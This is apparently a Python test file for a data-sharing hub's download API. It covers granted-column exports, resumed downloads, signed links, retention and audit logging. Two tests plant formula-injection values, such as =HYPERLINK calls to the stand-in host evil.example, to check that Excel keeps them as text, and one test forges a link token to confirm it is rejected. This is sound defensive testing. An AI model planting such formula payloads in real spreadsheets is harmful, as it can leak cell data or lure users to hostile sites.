"""File download on the real API (uvicorn on loopback): Parquet, CSV and Excel of exactly the granted columns and
rows; an interrupted download resumed with Range; expiring signed links bound to the consumer; the changes since
a version; a denied consumer."""

from __future__ import annotations

import csv
import hashlib
import io
import socket
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from urllib.parse import urlsplit

import pyarrow.parquet as pq
import pytest
import requests

from tests.delivery_helpers import GRANTED, Delivery, delivery_hub, expected_rows, grant
from tests.helpers import latest, sqlite_execute, version_folder

# Every delivery test runs on the local folder and on an S3 object store (tests/s3_server.py).
pytestmark = pytest.mark.usefixtures("storage_backend")


@pytest.fixture
def served(hub_home: Path, tmp_path: Path) -> Iterator[Delivery]:
    with delivery_hub(tmp_path) as made:
        yield made


def _files(served: Delivery) -> str:
    return f"/api/v1/resources/{served.hub.resource_code}/files"


def _by_id(rows: list[dict]) -> list[dict]:
    return sorted(rows, key=lambda r: r["id"])


def test_parquet_csv_and_excel_hold_exactly_the_granted_data(served: Delivery) -> None:
    from openpyxl import load_workbook

    version = latest(served.hub.resource_code)
    allowed = _by_id(expected_rows(version))

    parquet = served.get(_files(served), token=served.hub.token, params={"format": "parquet"})
    assert parquet.status_code == 200, parquet.text
    table = pq.read_table(io.BytesIO(parquet.content))
    assert table.column_names == GRANTED
    assert _by_id(table.to_pylist()) == allowed
    # The consumer can verify: the file's own digest, and the manifest digest of the published version.
    assert parquet.headers["X-Govshare-File-SHA256"] == hashlib.sha256(parquet.content).hexdigest()
    assert parquet.headers["ETag"] == f'"{hashlib.sha256(parquet.content).hexdigest()}"'
    manifest = (version_folder(version) / "manifest.json").read_bytes()
    assert parquet.headers["X-Govshare-Manifest-SHA256"] == hashlib.sha256(manifest).hexdigest()
    assert parquet.headers["X-Govshare-Rows"] == str(len(allowed))

    text = served.get(_files(served), token=served.hub.token, params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert list(rows[0]) == GRANTED
    assert [r["uscc"] for r in sorted(rows, key=lambda r: int(r["id"]))] == [r["uscc"] for r in allowed]

    excel = served.get(_files(served), token=served.hub.token, params={"format": "xlsx"})
    assert excel.status_code == 200 and excel.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(excel.content), read_only=True).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == GRANTED and len(values) - 1 == len(allowed)
    assert sorted(v[1] for v in values[1:]) == sorted(r["uscc"] for r in allowed)


def _interrupted_get(url: str, headers: dict[str, str], *, keep: int) -> bytes:
    """Read the first `keep` bytes of a body, then drop the connection, as a broken network would."""
    parts = urlsplit(url)
    with closing(socket.create_connection((parts.hostname, parts.port), timeout=30)) as sock:
        lines = [f"GET {parts.path}?{parts.query} HTTP/1.1", f"Host: {parts.netloc}", "Connection: close",
                 *[f"{k}: {v}" for k, v in headers.items()], "", ""]
        sock.sendall("\r\n".join(lines).encode())
        received = b""
        while b"\r\n\r\n" not in received:
            received += sock.recv(65536)
        head, _, body = received.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 200"), head
        while len(body) < keep:
            body += sock.recv(65536)
    return body[:keep]


def test_an_interrupted_download_resumes_with_range(served: Delivery) -> None:
    url = served.url(_files(served)) + "?format=csv"
    auth = {"Authorization": f"Bearer {served.hub.token}"}
    whole = requests.get(url, headers=auth, timeout=60)
    size, etag = len(whole.content), whole.headers["ETag"]
    assert size > 20_000

    partial = _interrupted_get(url, auth, keep=12_345)
    rest = requests.get(url, headers={**auth, "Range": f"bytes={len(partial)}-", "If-Range": etag}, timeout=60)
    assert rest.status_code == 206, rest.text
    assert rest.headers["Content-Range"] == f"bytes 12345-{size - 1}/{size}"
    resumed = partial + rest.content
    assert hashlib.sha256(resumed).hexdigest() == whole.headers["X-Govshare-File-SHA256"]

    tail = requests.get(url, headers={**auth, "Range": "bytes=-100"}, timeout=60)
    assert tail.status_code == 206 and tail.content == whole.content[-100:]
    beyond = requests.get(url, headers={**auth, "Range": f"bytes={size}-"}, timeout=60)
    assert beyond.status_code == 416 and beyond.headers["Content-Range"] == f"bytes */{size}"
    # why, in the API's error shape, with where the file ends (the body was empty)
    said = beyond.json()
    assert said["size"] == size and f"文件共 {size} 字节" in said["detail_zh"] and "not satisfiable" in said["detail"]
    assert beyond.headers["content-type"].startswith("application/json")
    stale = requests.get(url, headers={**auth, "Range": "bytes=10-", "If-Range": '"0000"'}, timeout=60)
    assert stale.status_code == 200 and stale.content == whole.content


def test_signed_links_expire_and_are_bound_to_what_was_signed(served: Delivery) -> None:
    links = f"/api/v1/resources/{served.hub.resource_code}/links"
    made = requests.post(served.url(links), json={"format": "parquet"},
                         headers={"Authorization": f"Bearer {served.hub.token}"}, timeout=30)
    assert made.status_code == 200, made.text
    url = made.json()["url"]
    fetched = requests.get(url, timeout=60)  # no credential needed
    assert fetched.status_code == 200
    assert _by_id(pq.read_table(io.BytesIO(fetched.content)).to_pylist()) == _by_id(
        expected_rows(latest(served.hub.resource_code)))
    resumed = requests.get(url, headers={"Range": "bytes=100-"}, timeout=60)
    assert resumed.status_code == 206 and resumed.content == fetched.content[100:]

    # Any change to the signed part breaks it: e.g. another resource or format swapped in.
    from delivery.signed_links import LinkClaims, _unb64

    token = url.rsplit("/", 1)[1]
    body, _, signature = token.partition(".")
    import base64
    import json

    claims = json.loads(_unb64(body))
    claims["fmt"] = "csv"
    forged = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=") + "." + signature
    refused = requests.get(url.rsplit("/", 1)[0] + "/" + forged, timeout=30)
    assert refused.status_code == 403 and "signature" in refused.json()["detail"]
    assert LinkClaims(**claims).agency == served.hub.consumer_code

    expired = requests.post(served.url(links), json={"format": "csv", "expires_in": 1},
                            headers={"Authorization": f"Bearer {served.hub.token}"}, timeout=30).json()["url"]
    from delivery.signed_links import verify

    with pytest.raises(Exception, match="expired"):
        verify(expired.rsplit("/", 1)[1], now=10**10)

    # Narrowing the grant voids links issued under the old one.
    grant(served.hub.resource_code, served.hub.consumer_code, columns=["id", "uscc"])
    voided = requests.get(url, timeout=30)
    assert voided.status_code == 403 and "grant changed" in voided.json()["detail"]


def test_changes_since_a_version(served: Delivery) -> None:
    from pipeline.sync import sync_resource

    with closing(sqlite3.connect(served.database)) as connection, connection:
        connection.execute(
            "UPDATE enterprises SET name = name || '（更名）', updated_at = strftime('%Y-%m-%dT%H:%M:%f', 'now', "
            "'+8 hours') || '+08:00' WHERE id <= 40")
    sync_resource(resource_code=served.hub.resource_code)
    response = served.get(_files(served), token=served.hub.token, params={"format": "parquet", "since": 1})
    assert response.status_code == 200, response.text
    assert response.headers["X-Govshare-Since-Version"] == "1" and response.headers["X-Govshare-Version"] == "2"
    changes = pq.read_table(io.BytesIO(response.content))
    assert changes.column_names == [*GRANTED, "_version", "_change"]
    changed = [r for r in expected_rows(latest(served.hub.resource_code)) if r["id"] <= 40]
    assert _by_id([{c: r[c] for c in GRANTED} for r in changes.to_pylist()]) == _by_id(changed)
    assert set(changes.column("_change").to_pylist()) == {"update"}


def test_a_consumer_without_a_grant_gets_no_file_and_no_link(served: Delivery) -> None:
    for fmt in ("parquet", "csv", "xlsx"):
        refused = served.get(_files(served), token=served.denied_token, params={"format": fmt})
        assert refused.status_code == 403 and "grant" in refused.json()["detail"]
    link = requests.post(served.url(f"/api/v1/resources/{served.hub.resource_code}/links"), json={},
                         headers={"Authorization": f"Bearer {served.denied_token}"}, timeout=30)
    assert link.status_code == 403
    assert served.get(_files(served)).status_code == 401


def test_caches_of_pruned_versions_are_removed(served: Delivery) -> None:
    from typer.testing import CliRunner

    from cli.main import app
    from core.storage import get_storage
    from pipeline.paths import storage_root
    from pipeline.sync import sync_resource

    code = served.hub.resource_code
    assert served.get(_files(served), token=served.hub.token, params={"format": "csv"}).status_code == 200
    assert served.get(f"/api/v1/resources/{code}/records", token=served.hub.token).status_code == 200
    v1 = latest(code)
    sqlite_execute(served.database, "UPDATE enterprises SET status = '吊销' WHERE id = 1")  # v2 differs
    sync_resource(resource_code=code, full=True)
    assert served.get(_files(served), token=served.hub.token, params={"format": "csv"}).status_code == 200
    exports = storage_root() / "exports" / str(served.hub.resource_id)
    assert sorted(p.name for p in exports.iterdir()) == ["v000001", "v000002"]

    get_storage().delete(v1.path)  # what the retention rule does to an old version
    done = CliRunner().invoke(app, ["delivery-cache", "prune"])
    assert done.exit_code == 0, done.output
    assert sorted(p.name for p in exports.iterdir()) == ["v000002"]
    assert not get_storage().exists(f"exports/{served.hub.resource_id}/v000001")  # nor in an object store
    assert not list((storage_root() / "index").glob(f"*/{version_folder(v1).name}"))
    assert "removed 2" in done.output


def test_formula_text_is_a_text_cell_in_excel_and_exact_in_every_machine_format(served: Delivery) -> None:
    """Values a spreadsheet would run (=, +, -, @, a tab or CR first): the Excel copy, for people, holds text
    cells, never formulas; CSV, Parquet, Arrow and JSON, read by consumers' systems, hold the value byte for byte
    (no ' prefix: ARCHITECTURE.md, "Excel cells are text, never formulas")."""
    import json

    import pyarrow as pa
    from openpyxl import load_workbook

    from core.xlsx import unescaped
    from pipeline.sync import sync_resource

    hostile = ['=HYPERLINK("http://evil.example","点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1\r\n"]
    keys = sorted(r["id"] for r in expected_rows(latest(served.hub.resource_code)))[:len(hostile)]
    with closing(sqlite3.connect(served.database)) as conn, conn:
        for key, name in zip(keys, hostile):
            conn.execute("UPDATE enterprises SET name = ?, updated_at = '2031-01-01T09:00:00+08:00' WHERE id = ?",
                         (name, key))
    sync_resource(resource_code=served.hub.resource_code)
    planted = dict(zip(keys, hostile))

    def got(params: dict, read) -> dict:  # noqa: ANN001 - bytes -> rows
        response = served.get(params.pop("path", _files(served)), token=served.hub.token, params=params)
        assert response.status_code == 200, response.text
        return {r["id"]: r["name"] for r in read(response.content) if r["id"] in planted}

    sheet = load_workbook(io.BytesIO(served.get(_files(served), token=served.hub.token,
                                                params={"format": "xlsx"}).content)).worksheets[0]
    cells = {row[0].value: row[2] for row in sheet.iter_rows(min_row=2) if row[0].value in planted}
    assert {k: (unescaped(c.value), c.data_type) for k, c in cells.items()} == {k: (v, "s") for k, v in planted.items()}
    records = f"/api/v1/resources/{served.hub.resource_code}/records"
    assert got({"format": "csv"}, lambda b: [dict(r, id=int(r["id"])) for r in csv.DictReader(
        io.StringIO(b.decode("utf-8-sig"), newline=""))]) == planted
    assert got({"format": "parquet"}, lambda b: pq.read_table(io.BytesIO(b)).to_pylist()) == planted
    assert got({"path": records, "format": "arrow"}, lambda b: pa.ipc.open_stream(b).read_all().to_pylist()) == planted
    assert got({"path": records, "limit": 1000}, lambda b: json.loads(b)["records"]) == planted


def test_excel_copies_keep_hostile_text_as_text(served: Delivery) -> None:
    """A provider's value that starts with = (a formula in Excel: CSV/formula injection) or holds a control
    character (which XML cannot carry: the export failed) is written as text Excel shows as it was."""
    from openpyxl import load_workbook

    from core.xlsx import unescaped
    from pipeline.sync import sync_resource

    hostile, broken = '=HYPERLINK("http://evil.example/?"&A1,"点我")', "第一行\x01第二行\x0b_x0041_"
    first, second = sorted(r["id"] for r in expected_rows(latest(served.hub.resource_code)))[:2]  # granted rows
    with closing(sqlite3.connect(served.database)) as conn, conn:
        for key, name in ((first, hostile), (second, broken)):
            conn.execute("UPDATE enterprises SET name = ?, updated_at = '2031-01-01T09:00:00+08:00' WHERE id = ?",
                         (name, key))
    sync_resource(resource_code=served.hub.resource_code)
    names = {r["id"]: r["name"] for r in expected_rows(latest(served.hub.resource_code))}
    excel = served.get(_files(served), token=served.hub.token, params={"format": "xlsx"})
    assert excel.status_code == 200, excel.text
    sheet = load_workbook(io.BytesIO(excel.content)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert all(row[2].data_type == "s" for row in rows)  # no cell of the column is a formula
    shown = {row[0].value: unescaped(row[2].value) for row in rows}
    assert shown == names and (shown[first], shown[second]) == (hostile, broken)


def _reads(resource_code: str) -> list[dict]:
    from registry.audit.models import AuditEvent
    from registry.db import session_scope

    with session_scope() as session:
        return [dict(e.detail) for e in session.query(AuditEvent).filter_by(
            action="data.read", result="ok", resource_code=resource_code).order_by(AuditEvent.id)]


def test_the_audit_names_the_version_downloaded_the_change_range_and_the_link(served: Delivery) -> None:
    from pipeline.sync import sync_resource

    code = served.hub.resource_code
    sqlite_execute(served.database, "UPDATE enterprises SET status = '吊销' WHERE id = 1")
    sync_resource(resource_code=code, full=True)  # v2 is the latest
    old = served.get(_files(served), token=served.hub.token, params={"version": 1, "format": "csv"})
    assert old.status_code == 200 and old.headers["X-Govshare-Version"] == "1"
    # the record says which version left the hub (retention keeps what subscribers hold from these records)
    assert _reads(code)[-1]["version"] == 1
    assert served.get(_files(served), token=served.hub.token, params={"since": 1}).status_code == 200
    assert (_reads(code)[-1]["version"], _reads(code)[-1]["since"]) == (2, 1)

    made = requests.post(served.url(f"/api/v1/resources/{code}/links"), json={"format": "parquet", "version": 1},
                         headers={"Authorization": f"Bearer {served.hub.token}"}, timeout=30)
    assert requests.get(made.json()["url"], timeout=60).status_code == 200
    followed = _reads(code)[-1]
    assert followed["version"] == 1 and followed["via"] == "signed link"  # whoever held the URL, not the issuer


def _prune_first_version(code: str) -> None:
    """What the retention rule does to v1: its files deleted, the version recorded as pruned."""
    from core import clock
    from core.storage import get_storage
    from registry.db import session_scope
    from registry.exchange.models import DatasetVersion, PrunedVersion

    with session_scope() as session:
        first = session.query(DatasetVersion).filter_by(number=1).one()
        get_storage().delete(first.path)
        session.add(PrunedVersion(version_id=first.id, reason="retention", pruned_at=clock.now()))


def test_a_version_removed_by_retention_is_refused_on_every_route(served: Delivery) -> None:
    from pipeline.sync import sync_resource

    code = served.hub.resource_code
    assert served.get(_files(served), token=served.hub.token, params={"format": "csv"}).status_code == 200  # cached
    made = requests.post(served.url(f"/api/v1/resources/{code}/links"), json={"format": "csv"},
                         headers={"Authorization": f"Bearer {served.hub.token}"}, timeout=30).json()["url"]
    sqlite_execute(served.database, "UPDATE enterprises SET status = '吊销' WHERE id = 1")
    sync_resource(resource_code=code, full=True)
    _prune_first_version(code)
    for params in ({"version": 1, "format": "csv"}, {"version": 1, "format": "xlsx"}):  # cached or not
        gone = served.get(_files(served), token=served.hub.token, params=params)
        assert gone.status_code == 404, gone.text
        assert "retention" in gone.json()["detail"] and "保存期限" in gone.json()["detail_zh"]
    assert requests.get(made, timeout=30).status_code == 404
    assert served.get(f"/api/v1/resources/{code}/records", token=served.hub.token,
                      params={"version": 1}).status_code == 404


def test_changes_only_a_whole_download_can_replace_are_answered_409_as_on_the_change_feed(served: Delivery) -> None:
    from pipeline.sync import sync_resource

    code = served.hub.resource_code
    sqlite_execute(served.database, "UPDATE enterprises SET status = '吊销' WHERE id = 1")
    sync_resource(resource_code=code, full=True)  # a snapshot: v1's files are no longer read by v2
    _prune_first_version(code)  # under a row condition, v2's changes need v1's rows to tell who left the view
    for path in (_files(served), f"/api/v1/resources/{code}/changes"):
        answer = served.get(path, token=served.hub.token, params={"since": 1})
        assert answer.status_code == 409, (path, answer.text)
        assert "download the whole latest version" in answer.json()["detail"]
        assert "请下载完整的最新版本" in answer.json()["detail_zh"]


def test_a_refused_signed_link_download_is_recorded_as_coming_through_the_link(served: Delivery) -> None:
    """A link followed after its grant narrowed, its issuing token was revoked, or the channel was closed is
    refused; the refusal's record says it came through a signed link, as a successful download's does, so a
    reviewer can tell a leaked URL being tried from the consumer's own requests."""
    from registry.audit.models import AuditEvent
    from registry.db import session_scope
    from tests.delivery_helpers import set_modes
    from tests.helpers import issue_token, revoke_token

    code = served.hub.resource_code
    links = f"/api/v1/resources/{code}/links"

    def link(token: str) -> str:
        made = requests.post(served.url(links), json={"format": "csv"},
                             headers={"Authorization": f"Bearer {token}"}, timeout=30)
        assert made.status_code == 200, made.text
        return made.json()["url"]

    def refusals() -> list[dict]:
        with session_scope() as session:
            return [dict(e.detail) for e in session.query(AuditEvent).filter_by(
                action="data.read", result="denied", resource_code=code).order_by(AuditEvent.id)]

    spare = issue_token(served.hub.consumer_code)
    of_revoked_token, of_narrowed_grant, of_closed_channel = link(spare), link(served.hub.token), link(served.hub.token)
    revoke_token(spare)
    assert requests.get(of_revoked_token, timeout=30).status_code == 403
    assert refusals()[-1]["via"] == "signed link"

    grant(code, served.hub.consumer_code, columns=["id", "uscc"])
    assert requests.get(of_narrowed_grant, timeout=30).status_code == 403
    assert refusals()[-1]["via"] == "signed link"

    set_modes(code, ["interface"])  # no file download any more: refused by the access decision itself
    assert requests.get(of_closed_channel, timeout=30).status_code == 403
    assert refusals()[-1]["via"] == "signed link"
    assert len(refusals()) == 3


def test_a_signed_link_turned_away_by_the_rate_limit_is_recorded_once_a_flood(
        hub_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Following a link past its agency's rate limit answered 429 and left no record: a leaked URL hammered by
    someone was invisible to the reviewer. It is recorded as a refusal through the link, the repeats within the
    minute folded into the next record's count as other refusals are, so a flood does not grow the log."""
    from core.settings import reset_settings
    from registry.audit.models import AuditEvent
    from registry.db import session_scope

    monkeypatch.setenv("GOVSHARE_RATE_LIMIT_RPS", "0.01")
    monkeypatch.setenv("GOVSHARE_RATE_LIMIT_BURST", "2")
    monkeypatch.setattr("delivery.ratelimit._LIMITERS", {})  # each storage backend's run starts a full bucket
    reset_settings()
    with delivery_hub(tmp_path) as made:
        code = made.hub.resource_code
        url = requests.post(made.url(f"/api/v1/resources/{code}/links"), json={"format": "csv"},
                            headers={"Authorization": f"Bearer {made.hub.token}"}, timeout=30).json()["url"]
        codes = [requests.get(url, timeout=30).status_code for _ in range(5)]
        assert codes == [200, 200, 429, 429, 429]
        with session_scope() as session:
            refused = [(e.actor, e.agency_code, dict(e.detail)) for e in session.query(AuditEvent).filter_by(
                action="data.read", result="denied", resource_code=code)]
    assert len(refused) == 1, refused  # the first of the minute written, the other two counted for the next
    actor, agency, detail = refused[0]
    assert agency == made.hub.consumer_code and actor != "anonymous"
    assert detail["via"] == "signed link" and "rate limit" in detail["reason"] and detail["count"] == 1
